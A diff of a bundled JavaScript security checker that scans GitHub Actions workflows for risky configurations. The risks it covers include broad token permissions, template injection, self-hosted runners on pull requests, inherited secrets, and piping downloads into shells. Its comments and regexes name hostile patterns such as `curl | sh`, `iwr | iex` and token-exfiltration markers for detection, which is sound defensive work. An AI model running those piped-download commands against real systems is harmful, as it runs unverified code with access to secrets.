+    'erlef/setup-beam',
+    'haskell-actions/setup',
+    'gradle/actions/setup-gradle',
+    'extractions/setup-just',
+    'taiki-e/install-action',
+]);
+/** Script text that uses a token or writes to GitHub (pushes, releases, API calls, OIDC). */
+const WRITES = /GITHUB_TOKEN|GH_TOKEN|github\.token|ACTIONS_(?:RUNTIME|ID_TOKEN_REQUEST)_(?:TOKEN|URL)|api\.github\.com|\bgh\s|\bhub\s|\bgit\s+(?:-c\s+\S+\s+)*(?:push|tag)\b|\b(?:npm|yarn|pnpm)\s+publish\b|\bdocker\s+push\b|semantic-release|goreleaser|changeset/;
+/**
+ * A script file of the repository run by path or through an interpreter: what it does is not visible
+ * here (it may push with the credentials a checkout persisted), so it counts as a possible writer.
+ */
+const SCRIPT_FILE = /(?:^|[\s;&|(])(?:\.{1,2}\/[\w./-]+|(?:bash|sh|zsh|python3?|node|ruby|perl|pwsh|deno\s+run|bun|tsx)\s+[\w./-]+\.\w+|[\w./-]+\.(?:sh|bash|py|rb|js|mjs|cjs|ts|ps1))(?![\w.-])/m;
+/** Why a job may need write scopes (the first step that can write), or undefined when it only reads. */
+function tokenWriter(job, workflow) {
+    if (job.uses)
+        return `it calls the reusable workflow "${job.uses.value}"`;
+    if (mentionsToken(workflow.env) || mentionsToken(job.env))
+        return 'its env: passes a token to every step';
+    for (const step of job.steps) {
+        const why = stepWriter(step);
+        if (why)
+            return why;
+    }
+    return undefined;
+}
+function stepWriter(step) {
+    if (mentionsToken(step.env) || mentionsToken(step.with))
+        return `step ${label(step)} is given a token`;
+    if (step.run) {
+        if (WRITES.test(step.run.value))
+            return `step ${label(step)} uses the token or pushes`;
+        return SCRIPT_FILE.test(step.run.value) ? `step ${label(step)} runs a repository script` : undefined;
+    }
+    if (step.uses) {
+        const path = actionPathOf(step.uses);
+        const repo = actionOf(step.uses);
+        if (path && repo && (READ_ONLY_ACTIONS.has(path) || READ_ONLY_ACTIONS.has(repo)))
+            return undefined;
+        return `step ${label(step)} uses ${step.uses.value}, which can use the token`;
+    }
+    return undefined;
+}
+function mentionsToken(map) {
+    if (!map)
+        return false;
+    for (const v of map.entries.values()) {
+        if (typeof v.value === 'string' && /github\.token|secrets\.GITHUB_TOKEN/i.test(v.value))
+            return true;
+    }
+    return false;
+}
+function label(step) {
+    const name = step.name?.value ?? step.id?.value;
+    return typeof name === 'string' ? `"${name}"` : `#${step.index + 1}`;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/permissions.js
+
+
+
+
+
+/**
+ * Least privilege for the `GITHUB_TOKEN`:
+ * - a workflow without top-level `permissions:` in which some job declares none either runs those
+ *   jobs with the repository's default token permissions, which may be read/write on every scope.
+ *   The finding is placed on the `jobs:` key, the line above which the top-level block belongs
+ *   (one finding per workflow, naming the jobs, rather than one per job);
+ * - `permissions: write-all`, at workflow or job level, is reported at that value;
+ * - a `<scope>: write` that a pull-request-triggered job cannot use, because every step only reads
+ *   (token-use.ts), is reported at that value: at the job's declaration, or at the workflow's when
+ *   every job inheriting it is read-only.
+ * Any other explicit declaration (`{}`, `read-all`, a scope map) passes; a workflow triggered only by
+ * `workflow_call` is exempt from the first check, because a called workflow can never hold more than
+ * its caller grants.
+ */
+const workflowPermissions = defineEvaluator({
+    kind: 'workflow.permissions',
+    summary: 'Workflows that leave GITHUB_TOKEN permissions at the repository default, or grant write-all.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            workflow(workflow) {
+                const top = writeAll(workflow.path, workflow.permissions, 'the workflow');
+                if (top)
+                    findings.push(top);
+                const missing = missingPermissions(workflow);
+                if (missing)
+                    findings.push(missing);
+                findings.push(...unneededWrites(workflow));
+            },
+            job(job, workflow) {
+                const finding = writeAll(workflow.path, job.permissions, `job "${job.id}"`, job.id);
+                if (finding)
+                    findings.push(finding);
+            },
+        });
+        return findings;
+    },
+});
+function writeAll(path, permissions, scope, jobId = '') {
+    const shorthand = permissions?.shorthand;
+    if (shorthand?.value.trim() !== 'write-all')
+        return undefined;
+    return {
+        message: `"permissions: write-all" gives the GITHUB_TOKEN of ${scope} write access to every scope; ` +
+            'list only the scopes it needs (for example "contents: read").',
+        location: locationFromSpan(path, shorthand.span),
+        key: `write-all:${jobId}`,
+    };
+}
+/** Write scopes on pull request jobs whose steps only read. */
+function unneededWrites(workflow) {
+    const triggers = [...eventsOf(workflow)].filter((e) => PR_EVENTS.has(e));
+    if (triggers.length === 0)
+        return [];
+    const out = [];
+    const on = triggers.join(', ');
+    const report = (perms, who, jobs) => {
+        for (const { scope, level } of perms.scopes) {
+            if (level.value !== 'write')
+                continue;
+            out.push({
+                message: `"${scope}: write" is granted to ${who}, which runs on ${on}, but none of its steps can use the ` +
+                    `token for more than reading (only scripts without token use and read-only actions). ` +
+                    `Grant "${scope}: read" (or remove the scope) so a compromised step cannot write.`,
+                location: locationFromSpan(workflow.path, level.span),
+                key: `unneeded-write:${jobs}:${scope}`,
+            });
+        }
+    };
+    const inheriting = workflow.jobs.filter((j) => !j.permissions);
+    for (const job of workflow.jobs) {
+        if (job.permissions && !tokenWriter(job, workflow))
+            report(job.permissions, `job "${job.id}"`, job.id);
+    }
+    if (workflow.permissions && inheriting.length > 0 && inheriting.every((j) => !tokenWriter(j, workflow))) {
+        const names = inheriting.map((j) => `"${j.id}"`).join(', ');
+        report(workflow.permissions, `every job (${names})`, '*');
+    }
+    return out;
+}
+function missingPermissions(workflow) {
+    if (workflow.permissions)
+        return undefined;
+    const events = workflow.on?.events ?? [];
+    if (events.length > 0 && events.every((e) => e.event === 'workflow_call'))
+        return undefined;
+    const bare = workflow.jobs.filter((job) => !job.permissions);
+    if (bare.length === 0)
+        return undefined;
+    const names = bare.map((job) => `"${job.id}"`).join(', ');
+    const which = bare.length === workflow.jobs.length
+        ? 'no job declares any'
+        : `job${bare.length > 1 ? 's' : ''} ${names} declare${bare.length > 1 ? '' : 's'} none`;
+    return {
+        message: `No top-level "permissions:" and ${which}, so ${bare.length > 1 ? 'they run' : 'it runs'} with the ` +
+            "repository's default GITHUB_TOKEN permissions, which can include write access to every scope. " +
+            'Add "permissions: { contents: read }" above "jobs:" and grant more per job where needed.',
+        location: locationFromSpan(workflow.path, workflow.jobsNode.span, true),
+        key: 'missing-permissions',
+    };
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/pr-evidence.js
+
+
+
+
+/**
+ * Process evidence at repository level: some workflow that runs on pull requests (before a change
+ * is merged) performs the activity — a static analysis tool, a test suite. When workflows perform it
+ * only on other events (push, schedule), each is reported at its `on:` so the fix is one line; when
+ * none performs it at all, one repository-level finding (no location) says so. What counts is data
+ * in the rule (`actions`, `commands`, `names`), so a team can add its own tools.
+ */
+const workflowPrEvidence = defineEvaluator({
+    kind: 'workflow.pr-evidence',
+    summary: 'A workflow triggered by pull requests runs the activity (e.g. SAST, tests) named by the rule.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        required: ['evidence'],
+        properties: {
+            evidence: { type: 'string', minLength: 1, description: 'What the activity is, for messages.' },
+            actions: {
+                type: 'array',
+                default: [],
+                items: { type: 'string', minLength: 1 },
+                description: 'Globs on owner/repo[/path] of actions that perform the activity.',
+            },
+            commands: {
+                type: 'array',
+                default: [],
+                items: { type: 'string', minLength: 1, format: 'regex' },
+                description: 'Regular expressions (case-insensitive) matched against run: scripts.',
+            },
+            names: {
+                type: 'string',
+                default: '',
+                format: 'regex',
+                description: 'Regular expression (case-insensitive) on job ids, job names and step names.',
+            },
+            events: {
+                type: 'array',
+                default: ['pull_request', 'pull_request_target', 'merge_group'],
+                items: { type: 'string', minLength: 1 },
+                description: 'Events that run before a change is merged.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const action = shared_globMatcher(options.actions ?? []);
+        const commands = (options.commands ?? []).map((c) => new RegExp(c, 'i'));
+        const names = options.names ? new RegExp(options.names, 'i') : undefined;
+        const events = new Set(options.events ?? []);
+        const performs = (job) => (names !== undefined &&
+            [job.id, job.name?.value].some((n) => typeof n === 'string' && names.test(n))) ||
+            job.steps.some((s) => stepPerforms(s, action, commands, names));
+        const doing = workflowSources(workspace).filter((s) => s.kind === 'workflow' && s.jobs.some(performs));
+        if (doing.some((w) => [...eventsOf(w)].some((e) => events.has(e))))
+            return [];
+        if (doing.length === 0) {
+            return [
+                {
+                    message: `No workflow runs ${options.evidence} on pull requests, so changes are merged without it. ` +
+                        `Add a workflow triggered by pull_request that runs it (or declare where it happens outside GitHub Actions).`,
+                    location: null,
+                    key: 'missing',
+                },
+            ];
+        }
+        return doing.map((w) => {
+            const on = [...eventsOf(w)].join(', ') || 'no trigger';
+            return {
+                message: `This workflow runs ${options.evidence}, but only on ${on}, not on pull requests, so changes are merged ` +
+                    'before it runs. Add "pull_request" to its triggers.',
+                location: w.on ? locationFromSpan(w.path, w.on.span, true) : { path: w.path, startLine: 1 },
+                key: 'not-on-pull-requests',
+            };
+        });
+    },
+});
+function stepPerforms(step, action, commands, names) {
+    const path = actionPathOf(step.uses);
+    if (path && action(path))
+        return true;
+    if (step.run && commands.some((re) => re.test(step.run.value)))
+        return true;
+    return names !== undefined && typeof step.name?.value === 'string' && names.test(step.name.value);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/remote-script.js
+
+
+
+
+
+/**
+ * `curl ... | sh` and its relatives (`wget -O- | bash`, `bash <(curl ...)`, `iwr ... | iex`) run
+ * whatever the server returns at that moment, unverified, with the job's token and secrets in reach.
+ * Reported at the command inside the `run:` script (workflows and composite actions). TLS
+ * verification switches (`curl -k`) are reported by tls-verification-disabled, not here.
+ */
+const workflowRemoteScript = defineEvaluator({
+    kind: 'workflow.remote-script',
+    summary: 'run: scripts that pipe a download straight into a shell or interpreter (curl | sh).',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            step(step, source, job) {
+                if (!step.run)
+                    return;
+                const hits = remoteExecutions(step.run.value);
+                if (hits.length === 0)
+                    return;
+                const text = locatedText(workspace, source.path, step.run);
+                for (const hit of hits) {
+                    findings.push({
+                        message: `"${hit.text.length > 120 ? `${hit.text.slice(0, 117)}...` : hit.text}" executes a download without ` +
+                            'verifying it: whoever controls the server, the DNS or the URL decides what runs in this job. ' +
+                            'Download to a file, check its SHA-256 (or signature) against a pinned value, then run it, or use a pinned action or package.',
+                        location: text.locate(hit.start, hit.end),
+                        key: `${job?.id ?? ''}/${stepLabel(step)}/${hit.text}`,
+                    });
+                }
+            },
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/secrets-inherit.js
+
+
+
+/**
+ * `secrets: inherit` hands every secret the caller can read (repository, environment and organisation
+ * secrets) to the called workflow, whatever it needs. Reported at the value, per calling job.
+ */
+const workflowSecretsInherit = defineEvaluator({
+    kind: 'workflow.secrets-inherit',
+    summary: 'Reusable workflow calls that pass every secret with `secrets: inherit`.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                if (!job.uses || typeof job.secrets?.value !== 'string' || job.secrets.value.trim() !== 'inherit')
+                    return;
+                findings.push({
+                    message: `Job "${job.id}" passes every secret of the repository and organisation to "${job.uses.value}" ` +
+                        '("secrets: inherit"). List only the secrets it uses under "secrets:".',
+                    location: locationFromSpan(workflow.path, job.secrets.span),
+                    key: job.id,
+                });
+            },
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/self-hosted-runner.js
+
+
+
+
+
+/**
+ * A self-hosted runner that takes jobs triggered by pull requests runs code from forks on a machine
+ * that persists between jobs and sits on the organisation's network: one pull request can install a
+ * backdoor that later jobs (with secrets) run on. Reported at the `self-hosted` label, including labels
+ * that come from a static matrix (`runs-on: ${{ matrix.runner }}`).
+ */
+const workflowSelfHostedRunner = defineEvaluator({
+    kind: 'workflow.self-hosted-runner',
+    summary: 'Self-hosted runners used by jobs of pull-request-triggered workflows.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                const triggers = [...eventsOf(workflow)].filter((e) => PR_EVENTS.has(e));
+                if (triggers.length === 0 || !job.runsOn)
+                    return;
+                const label = selfHostedLabel(workflow, job, job.runsOn);
+                if (!label)
+                    return;
+                findings.push({
+                    message: `Job "${job.id}" runs on a self-hosted runner and the workflow is triggered by ${triggers.join(', ')}: ` +
+                        "code from a fork's pull request runs on a machine that outlives the job and can reach your network. " +
+                        'Use GitHub-hosted runners for pull requests, or ephemeral, isolated self-hosted runners that only accept trusted events.',
+                    location: locationFromSpan(workflow.path, label.span),
+                    key: job.id,
+                });
+            },
+        });
+        return findings;
+    },
+});
+/** The `self-hosted` label among a `runs-on` value (string, list, `{ labels }` or static matrix). */
+function selfHostedLabel(workflow, job, node) {
+    const doc = workflow.document;
+    const at = (pointer, value) => ({
+        value,
+        pointer,
+        span: doc.span(pointer) ?? doc.nearestSpan(pointer) ?? node.span,
+    });
+    const scan = (value, pointer, depth) => {
+        if (depth > 4)
+            return undefined;
+        if (typeof value === 'string') {
+            if (value.trim().toLowerCase() === 'self-hosted')
+                return at(pointer, value);
+            const m = /^\s*\$\{\{\s*matrix\.([\w-]+)\s*\}\}\s*$/.exec(value);
+            return m ? fromMatrix(m[1].toLowerCase(), depth) : undefined;
+        }
+        if (Array.isArray(value)) {
+            for (const [i, v] of value.entries()) {
+                const hit = scan(v, `${pointer}/${i}`, depth + 1);
+                if (hit)
+                    return hit;
+            }
+            return undefined;
+        }
+        if (value && typeof value === 'object' && 'labels' in value) {
+            return scan(value.labels, `${pointer}/labels`, depth + 1);
+        }
+        return undefined;
+    };
+    const fromMatrix = (key, depth) => {
+        const m = job.matrix;
+        if (!m?.value || typeof m.value !== 'object' || Array.isArray(m.value))
+            return undefined;
+        const entries = m.value;
+        for (const [k, v] of Object.entries(entries)) {
+            if (k.toLowerCase() === key) {
+                const hit = scan(v, `${m.pointer}/${escapePointerToken(k)}`, depth + 1);
+                if (hit)
+                    return hit;
+            }
+        }
+        const include = Array.isArray(entries.include) ? entries.include : [];
+        for (const [i, item] of include.entries()) {
+            if (!item || typeof item !== 'object')
+                continue;
+            for (const [k, v] of Object.entries(item)) {
+                if (k.toLowerCase() !== key)
+                    continue;
+                const hit = scan(v, `${m.pointer}/include/${i}/${escapePointerToken(k)}`, depth + 1);
+                if (hit)
+                    return hit;
+            }
+        }
+        return undefined;
+    };
+    return scan(node.value, node.pointer, 0);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/template-injection.js
+
+
+
+
+
+
+/**
+ * Action inputs whose value is executed as code (a script, an inline command), keyed by `owner/repo`
+ * (lower case). `run:` is always a sink.
+ */
+const CODE_INPUTS = {
+    'actions/github-script': ['script'],
+    'azure/cli': ['inlinescript'],
+    'azure/powershell': ['inlinescript'],
+    'appleboy/ssh-action': ['script'],
+    'nick-fields/retry': ['command'],
+    'addnab/docker-run-action': ['run'],
+    'jannekem/run-python-script-action': ['script'],
+    'amadevus/pwsh-script': ['script'],
+    'cardinalby/js-eval-action': ['expression'],
+    'mathiasvr/command-output': ['run'],
+};
+/**
+ * Template injection: a `${{ }}` expression in code (a `run:` script, or an action input that is run as
+ * a script) is substituted into the code before it runs, so a value an outsider chooses becomes code.
+ * Reported at the context reference that brings the value in, graded by what the value can hold (see
+ * contexts.ts): free text is high, validated syntax is medium; numbers, SHAs, booleans, static matrix
+ * values and conditions (`if:` is never code) are not reported. Values are followed through `env:`,
+ * step and job outputs, matrices and local `inputs.*` (dataflow.ts). An input with no caller in the
+ * repository (manual dispatch, a workflow called from elsewhere) is not reported: its value is not
+ * derivable here, and flagging every `inputs.*` would bury the real findings.
+ */
+const workflowTemplateInjection = defineEvaluator({
+    kind: 'workflow.template-injection',
+    summary: 'Attacker-controllable expressions (pull request, issue and comment text, branch names, commit messages) expanded into run: scripts or script inputs, followed through env, outputs, matrices and inputs.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            sinks: {
+                type: 'array',
+                default: [],
+                description: 'Extra action inputs that execute their value as code.',
+                items: {
+                    type: 'object',
+                    additionalProperties: false,
+                    required: ['uses', 'inputs'],
+                    properties: {
+                        uses: {
+                            type: 'string',
+                            pattern: '^[^/@\\s]+/[^@\\s]+$',
+                            description: 'owner/repo of the action.',
+                        },
+                        inputs: { type: 'array', minItems: 1, items: { type: 'string', minLength: 1 } },
+                    },
+                },
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const sinks = new Map(Object.entries(CODE_INPUTS));
+        for (const s of options.sinks ?? []) {
+            const key = s.uses.toLowerCase();
+            sinks.set(key, [...(sinks.get(key) ?? []), ...s.inputs.map((i) => i.toLowerCase())]);
+        }
+        const flow = new Dataflow(workspace, classifyContext);
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            expression(expr, source, job, step) {
+                if (!step || !expr.parsed.ok)
+                    return;
+                const sink = sinkName(step, expr.field, sinks);
+                if (!sink)
+                    return;
+                const scope = { source, ...(job ? { job } : {}), stepIndex: step.index, level: 'step' };
+                const flows = flow.flows(expr.parsed.node, expr.inner, scope).filter((f) => !f.collection);
+                for (const group of byReference(flows)) {
+                    findings.push(template_injection_finding(expr, group, sink, `${job?.id ?? ''}/${stepLabel(step)}`));
+                }
+            },
+        }, workspace);
+        return findings;
+    },
+});
+/** `run:` or `with.<input>` when the field is code, else undefined. */
+function sinkName(step, field, sinks) {
+    if (field.length === 1 && field[0] === 'run' && step.run)
+        return 'run:';
+    if (field.length !== 2 || field[0] !== 'with' || !step.uses)
+        return undefined;
+    const ref = parseUses(step.uses.value);
+    if (ref.kind !== 'repository')
+        return undefined;
+    const inputs = sinks.get(`${ref.owner}/${ref.repo}`.toLowerCase());
+    const input = field[1];
+    return inputs?.includes(input.toLowerCase())
+        ? `the "${input}" input of ${ref.owner}/${ref.repo}`
+        : undefined;
+}
+/** Flows grouped by the reference they enter through (one finding per reference). */
+function byReference(flows) {
+    const groups = new Map();
+    for (const f of flows) {
+        const list = groups.get(f.ref.start);
+        if (list)
+            list.push(f);
+        else
+            groups.set(f.ref.start, [f]);
+    }
+    return [...groups.values()];
+}
+function template_injection_finding(expr, flows, sink, owner) {
+    const first = flows[0];
+    const ref = expr.inner.slice(first.ref.start, first.ref.end);
+    const arbitrary = flows.some((f) => f.origin.capability === 'arbitrary');
+    const origins = [...new Set(flows.map((f) => template_injection_describe(f, ref, expr.location)))];
+    const shown = origins.slice(0, 3).join('; ');
+    const more = origins.length > 3 ? ` (and ${origins.length - 3} more)` : '';
+    const what = arbitrary ? 'attacker-controlled text' : 'an attacker-influenced value';
+    return {
+        message: `"${ref}" in ${sink} is substituted into the code before it runs and can carry ${what}: ${shown}${more}. ` +
+            'Bind the expression to a variable in the step\'s env: and read the variable in the script ("$NAME").',
+        location: expr.locate(first.ref.start, first.ref.end),
+        key: `${owner}/${sink}/${ref}`,
+        severity: arbitrary ? 'high' : 'medium',
+    };
+}
+/** `github.event.issue.title`, or `env.TITLE <- github.event.issue.title (env.TITLE, line 9)`. */
+function template_injection_describe(flow, ref, at) {
+    const origin = flow.origin;
+    if (origin.text === ref && origin.via.length === 0)
+        return origin.text;
+    const hops = origin.via.map((h) => hopText(h, at)).join(' <- ');
+    return `${origin.text} via ${hops}`;
+}
+function hopText(hop, at) {
+    const where = hop.location.path === at.path
+        ? `line ${hop.location.startLine}`
+        : `${hop.location.path}:${hop.location.startLine}`;
+    return `${hop.text} (${where})`;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/unpinned-images.js
+
+
+
+
+
+/**
+ * Container images a workflow runs: a job's `container:` (every step runs inside it, with the job's
+ * token), its `services:`, and a Docker action's `runs.image: docker://...`. A tag can be re-pointed
+ * to a different image; only `@sha256:<digest>` names fixed content. Images computed by an expression
+ * (`${{ matrix.image }}`) are not judged: their value is not known here. `docker://` steps are
+ * references in `uses:` and are reported by workflow-unpinned-action.
+ */
+const workflowUnpinnedImages = defineEvaluator({
+    kind: 'workflow.unpinned-images',
+    summary: 'Job container, service and Docker action images referenced by tag instead of a sha256 digest.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            allow: {
+                type: 'array',
+                items: { type: 'string', minLength: 1 },
+                default: [],
+                description: 'Globs on the image name without tag (e.g. "postgres", "ghcr.io/acme/*") that may use tags.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const allowed = shared_globMatcher(options.allow ?? []);
+        const findings = [];
+        const check = (path, image, what, key) => {
+            if (!image || image.value.includes('${{'))
+                return;
+            const raw = image.value.trim().replace(/^docker:\/\//, '');
+            const ref = parseImageRef(raw);
+            if (!ref || hasSha256Digest(ref))
+                return;
+            const name = [ref.registry, ref.repository].filter(Boolean).join('/');
+            if (allowed(name) || allowed(ref.repository))
+                return;
+            const by = ref.digest
+                ? `a malformed digest ("${ref.digest}")`
+                : ref.tag
+                    ? `tag "${ref.tag}"`
+                    : 'name only (the "latest" tag)';
+            findings.push({
+                message: `Image "${ref.raw}" (${what}) is pulled by ${by}; a tag can be moved to a different image at any time. ` +
+                    'Pin it by digest (image@sha256:<digest>) and let Dependabot or Renovate update it.',
+                location: locationFromSpan(path, image.span),
+                key: `${key}:${ref.raw}`,
+            });
+        };
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                check(workflow.path, job.container?.image, `the container of job "${job.id}"`, `${job.id}/container`);
+                for (const service of job.services) {
+                    check(workflow.path, service.image, `service "${service.id}" of job "${job.id}"`, `${job.id}/service/${service.id}`);
+                }
+            },
+            action(action) {
+                if (action.image?.value.trim().startsWith('docker://')) {
+                    check(action.path, action.image, 'the image of this Docker action', 'runs.image');
+                }
+            },
+        });
+        return findings;
+    },
+});
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/unpinned-uses.js
 
@@ -25380,6 +40694,43 @@ function problem(text, what, allowed) {
 
 
 
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
 /**
  * Every evaluator, keyed by `check.kind`. Explicit on purpose: the bundle cannot discover code at run
  * time, and a test checks that every rule's kind is here and every evaluator has fixtures.
@@ -25391,13 +40742,50 @@ const EVALUATORS = [
     contentRequired,
     structuredSchema,
     depsLockfile,
+    depsUpdateCoverage,
+    depsGitBranch,
     binaryExecutables,
     gitignoreMustIgnore,
     workflowUnpinnedUses,
     workflowPermissions,
+    workflowTemplateInjection,
+    workflowDangerousTriggers,
+    workflowUnpinnedImages,
+    workflowCheckoutCredentials,
+    workflowSecretsInherit,
+    workflowOverprovisionedSecrets,
+    workflowContainerCredentials,
+    workflowInsecureCommands,
+    workflowSelfHostedRunner,
+    workflowRemoteScript,
+    workflowPrEvidence,
+    workflowDeployEnvironment,
     dockerfileBaseImage,
     dockerfileRootUser,
+    dockerfileBaseImageDigest,
+    dockerfileAddUrl,
+    dockerfileSecretEnv,
+    dockerfileRunCommand,
+    dockerfileExposedPorts,
+    secretsScan,
+    k8sPrivileged,
+    k8sPrivilegeEscalation,
+    k8sRunAsRoot,
+    k8sHostNamespaces,
+    k8sHostPath,
+    k8sImageTag,
+    k8sResourceLimits,
+    k8sEnvSecretLiteral,
+    terraformAttribute,
+    terraformS3Encryption,
+    terraformOpenIngress,
+    terraformProviderCredentials,
+    githubBranchProtection,
+    githubSecurityFeatures,
+    githubWorkflowToken,
+    githubEnvironmentReviewers,
     inputProblems,
+    ...policyEvaluators,
 ];
 const BY_KIND = new Map(EVALUATORS.map((e) => [e.kind, e]));
 /** The evaluator for a `check.kind`, or undefined. */
@@ -25409,8 +40797,6 @@ function allEvaluators() {
     return [...BY_KIND.values()];
 }
 
-;// CONCATENATED MODULE: external "node:crypto"
-const external_node_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");
 ;// CONCATENATED MODULE: ./lib/core/finding.js
 
 /** Where controlgate's documentation lives; rule help URLs are derived from it, never typed. */
@@ -25429,7 +40815,7 @@ function createFinding(rule, raw, severity = rule.severity) {
     return {
         ruleId: rule.id,
         title: rule.title,
-        controls: [...rule.controls],
+        controls: [...(raw.controls ?? rule.controls)],
         severity: raw.severity ?? severity,
         message: raw.message,
         remediation: rule.remediation,
@@ -25461,167 +40847,101 @@ function normalizeLocation(loc) {
     return out;
 }
 
-;// CONCATENATED MODULE: ./lib/core/gate.js
-
-/** Numeric rank of a severity: info 0 .. critical 4. */
-function severityRank(s) {
-    return SEVERITIES.indexOf(s);
-}
-/** Whether a severity is at or above the threshold (`never` blocks nothing). */
-function meetsThreshold(severity, failOn) {
-    return failOn !== 'never' && severityRank(severity) >= severityRank(failOn);
-}
+;// CONCATENATED MODULE: ./lib/core/rule-run.js
 /**
- * Marks each open finding at or above `failOn` as blocking and decides the gate. Excepted and ignored
- * findings never block. Returns the decision with one reason per blocking severity.
+ * Evaluation of rules, one at a time: each rule's effective settings (disabled, severity, excluded
+ * paths), the skip of rules whose controls are all declared not applicable, the evaluator call, and
+ * the conversion of what it returns into findings. A rule that throws becomes that rule's error; a
+ * rule that cannot get the answer it needs (an API permission) becomes unverifiable.
  */
-function applyGate(findings, failOn) {
-    const counts = new Map();
-    for (const f of findings) {
-        f.blocking = f.status === 'open' && meetsThreshold(f.severity, failOn);
-        if (f.blocking)
-            counts.set(f.severity, (counts.get(f.severity) ?? 0) + 1);
+
+
+
+
+/** Evaluates rules one by one, collecting their summaries, findings and errors. */
+class RuleRun {
+    config;
+    workspace;
+    policy;
+    log;
+    github;
+    findings = [];
+    errors = [];
+    summaries = [];
+    constructor(config, workspace, policy, log, github) {
+        this.config = config;
+        this.workspace = workspace;
+        this.policy = policy;
+        this.log = log;
+        this.github = github;
     }
-    const blocking = [...counts.values()].reduce((a, b) => a + b, 0);
-    if (blocking === 0)
-        return { result: 'pass', failOn, reasons: [] };
-    const detail = [...SEVERITIES]
-        .reverse()
-        .filter((s) => counts.has(s))
-        .map((s) => `${counts.get(s)} ${s}`)
-        .join(', ');
-    return {
-        result: 'fail',
-        failOn,
-        reasons: [`${blocking} open finding${blocking === 1 ? '' : 's'} at or above "${failOn}" (${detail})`],
-    };
-}
-
-;// CONCATENATED MODULE: ./lib/core/catalog.js
-
-
-let controls;
-let byId;
-let by2013;
-/** All 34 controls, in catalog order (8.1 .. 8.34). */
-function allControls() {
-    if (!controls) {
-        const raw = JSON.parse((0,external_node_fs_namespaceObject.readFileSync)(packagePath('data', 'controls.json'), 'utf8'));
-        controls = raw.controls;
-    }
-    return controls;
-}
-/** The control with a 2022 id such as "8.28", or undefined. */
-function getControl(id) {
-    byId ??= new Map(allControls().map((c) => [c.id, c]));
-    return byId.get(id);
-}
-/**
- * The technological 2022 controls that replace an ISO/IEC 27001:2013 Annex A id such as "A.9.2.3".
- * Empty when the old control maps only to organisational, people or physical controls.
- */
-function controlsFrom2013(id) {
-    if (!by2013) {
-        by2013 = new Map();
-        for (const c of allControls()) {
-            for (const old of c.iso27001_2013) {
-                const list = by2013.get(old) ?? [];
-                list.push(c);
-                by2013.set(old, list);
+    async evaluate(rule, notApplicable) {
+        const settings = this.config.rules[rule.id] ?? {};
+        const summary = {
+            id: rule.id,
+            title: rule.title,
+            severity: settings.severity ?? rule.severity,
+            controls: rule.controls,
+            rationale: rule.rationale,
+            remediation: rule.remediation,
+            helpUri: helpUri(rule.id),
+            source: rule.source,
+            result: 'pass',
+            findings: 0,
+        };
+        this.summaries.push(summary);
+        if (settings.enabled === false && rule.check.kind === 'policy.declarations-file') {
+            // Never disabled: a broken declarations file must fail the gate. Said only when it matters.
+            if (this.policy.of('declarations-file').length > 0) {
+                this.log.warning(`${this.config.file}: /rules/${rule.id}: this rule cannot be disabled; the setting is ignored`);
             }
         }
+        else if (settings.enabled === false) {
+            summary.result = 'disabled';
+            return;
+        }
+        if (notApplicable) {
+            summary.result = 'not-applicable';
+            return;
+        }
+        const evaluator = getEvaluator(rule.check.kind);
+        try {
+            if (!evaluator)
+                throw new Error(`no evaluator for kind "${rule.check.kind}"`);
+            const raw = await evaluator.evaluate({
+                rule,
+                options: rule.check.with ?? {},
+                workspace: this.workspace,
+                policy: this.policy,
+                ...(this.github ? { github: this.github } : {}),
+            });
+            this.append(rule, summary, raw);
+        }
+        catch (err) {
+            const message = err instanceof Error ? err.message : String(err);
+            // A refused API answer is not a bug: the rule's controls are unverifiable, and the detail says
+            // which permission would help. It is no rule error and raises no warning of its own.
+            if (err instanceof UnverifiableError) {
+                summary.result = 'unverifiable';
+                summary.detail = message;
+                return;
+            }
+            summary.result = 'error';
+            this.errors.push({ ruleId: rule.id, message: `internal error while evaluating: ${message}` });
+        }
     }
-    return by2013.get(normalize2013(id)) ?? [];
-}
-/** Accepts "A.9.2.3", "a.9.2.3" and "9.2.3". */
-function normalize2013(id) {
-    const t = id.trim();
-    return /^a\./i.test(t) ? `A.${t.slice(2)}` : `A.${t}`;
-}
-/** Sorts control ids numerically ("8.2" before "8.10"). */
-function compareControlIds(a, b) {
-    const pa = a.split('.').map(Number);
-    const pb = b.split('.').map(Number);
-    for (let i = 0; i < Math.max(pa.length, pb.length); i++) {
-        const d = (pa[i] ?? 0) - (pb[i] ?? 0);
-        if (d !== 0)
-            return d;
+    append(rule, summary, raw) {
+        const exclude = this.config.rules[rule.id]?.exclude;
+        const skip = exclude?.length ? picomatch(exclude, { dot: true }) : undefined;
